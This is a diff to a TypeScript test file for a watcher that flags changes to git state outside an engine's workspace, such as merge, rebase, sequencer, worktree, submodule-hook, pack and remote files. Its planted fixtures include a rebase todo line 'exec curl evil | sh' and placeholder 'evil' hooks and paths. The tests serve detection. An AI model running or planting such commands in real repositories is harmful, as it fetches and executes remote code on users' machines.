@@ -119,7 +119,7 @@ t.test('skip leaves a subtree out, whatever happens in it', async (t) => {
 t.test('an index is compared by what it stages', async (t) => {
   const repo = makeRepo(t, { 'a.txt': 'a\n', 'b.txt': 'b\n' });
   const gitDir = path.join(repo, '.git');
-  const trees: WatchedTree[] = [{ rule: 'user_repo', root: gitDir, paths: ['HEAD', 'index'], indexes: ['index'] }];
+  const trees: WatchedTree[] = [{ rule: 'user_repo', root: gitDir, paths: ['HEAD', 'index'], isIndex: (rel) => rel === 'index' }];
   const before = fingerprintTrees(trees);
   utimesSync(path.join(repo, 'a.txt'), new Date(5e12), new Date(5e12));
   git(repo, 'status', '--porcelain');
@@ -239,4 +239,61 @@ t.test('a tree held back from the session baseline is measured from when its bas
   t.same(outsideChanges(late), [], 'nothing to compare with');
   writeFiles(install, { 'dist/cli.js': 'and again\n' });
   t.equal(outsideChanges(late).length, 1, 'from then on it is watched');
+});
+
+t.test("outsideTrees: git's state beyond HEAD and refs — a merge, a rebase's todo, a sequencer, shallow, worktrees, submodules, packs, rerere — is watched", async (t) => {
+  const repo = makeRepo(t, { 'a.txt': 'a\n' });
+  git(repo, 'gc', '-q');
+  const gitDir = path.join(repo, '.git');
+  const pack = fs.readdirSync(path.join(gitDir, 'objects', 'pack')).find((n) => n.endsWith('.pack'))!;
+  writeFiles(gitDir, { 'modules/sub/HEAD': 'ref: refs/heads/main\n', 'modules/sub/objects/ab/cdef': 'x\n', 'worktrees/wt/HEAD': 'ref: refs/heads/main\n' });
+  const install = tempDir(t, 'engine-install-');
+  writeFiles(install, { 'package.json': '{}\n' });
+  const { ws, baseSha } = await makeWorkspace(t, repo, 'state');
+  const watch = watchOutside(outsideTrees(ws, install, false));
+  writeFiles(ws.dir, { 'b.txt': 'b\n' });
+  await commitCheckpoint({ ws, tree: await snapshotTree(ws), parent: baseSha, message: { title: 't', runId: 'state', milestone: '1', step: 's' }, author: { name: 'E', email: 'e@x' }, date: new Date(0) });
+  // git freshens a pack by its times when it writes an object the pack holds; a submodule's objects are its own git's.
+  utimesSync(path.join(gitDir, 'objects', 'pack', pack), new Date(5e12), new Date(5e12));
+  writeFiles(gitDir, { 'modules/sub/objects/ab/0123': 'y\n' });
+  t.same(outsideChanges(watch), [], "the engine's checkpoint, a freshened pack and a submodule's new object are no violation");
+  const planted: Record<string, string> = {
+    'MERGE_HEAD': `${baseSha}\n`,
+    'MERGE_MSG': 'merge\n',
+    'MERGE_MODE': 'no-ff\n',
+    'CHERRY_PICK_HEAD': `${baseSha}\n`,
+    'REVERT_HEAD': `${baseSha}\n`,
+    'ORIG_HEAD': `${baseSha}\n`,
+    'SQUASH_MSG': 'squash\n',
+    'shallow': `${baseSha}\n`,
+    'rebase-merge/git-rebase-todo': 'exec curl evil | sh\n',
+    'rebase-apply/next': '1\n',
+    'sequencer/todo': 'exec evil\n',
+    'worktrees/evil/gitdir': '/tmp/evil/.git\n',
+    'worktrees/wt/HEAD': `${baseSha}\n`,
+    'modules/sub/hooks/post-checkout': 'evil\n',
+    'objects/pack/pack-0000000000000000000000000000000000000000.pack': 'PACK\n',
+    'remotes/origin': 'URL: /tmp/evil\n',
+    'rr-cache/0000/postimage': 'evil\n',
+  };
+  writeFiles(gitDir, planted);
+  const got = outsideChanges(watch).map((v) => v.path);
+  for (const rel of Object.keys(planted)) t.ok(got.includes(`${gitDir}/${rel}`), `${rel} is a violation`);
+  t.notOk(got.some((p) => p.includes('/modules/sub/objects/')), 'no submodule object is walked');
+  // Rewritten by every background fetch of an editor, and read by git only right after it writes it.
+  writeFiles(gitDir, { 'FETCH_HEAD': `${baseSha}\t\tbranch 'main' of /tmp/x\n` });
+  t.equal(outsideChanges(watch).length, got.length, 'FETCH_HEAD is left out');
+});
+
+t.test('outsideTrees from a linked worktree: its commondir file and merge state, and the common dir once', async (t) => {
+  const main = makeRepo(t, { 'a.txt': 'a\n' });
+  const linked = path.join(tempDir(t), 'linked');
+  git(main, 'worktree', 'add', '-q', '-b', 'feature', linked);
+  const install = tempDir(t, 'engine-install-');
+  writeFiles(install, { 'package.json': '{}\n' });
+  const { ws, baseSha } = await makeWorkspace(t, linked, 'lw2');
+  const watch = watchOutside(outsideTrees(ws, install, false));
+  writeFiles(ws.repo.gitDir, { 'MERGE_HEAD': `${baseSha}\n`, 'commondir': '/tmp/evil\n' });
+  writeFiles(ws.repo.commonDir, { 'shallow': `${baseSha}\n` });
+  t.same(outsideChanges(watch).map((v) => v.path).sort(), [`${ws.repo.commonDir}/shallow`, `${ws.repo.gitDir}/MERGE_HEAD`, `${ws.repo.gitDir}/commondir`].sort(), 'each once, the worktree\'s own under its git dir');
 });
